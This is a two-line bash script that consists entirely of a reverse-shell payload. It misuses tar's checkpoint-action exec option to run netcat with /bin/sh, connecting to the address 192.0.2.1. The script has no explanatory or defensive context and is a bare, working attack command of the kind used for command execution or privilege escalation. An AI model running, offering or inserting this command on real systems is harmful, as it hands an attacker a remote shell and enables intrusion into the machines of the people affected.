#!/bin/bash
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 192.0.2.1 1'
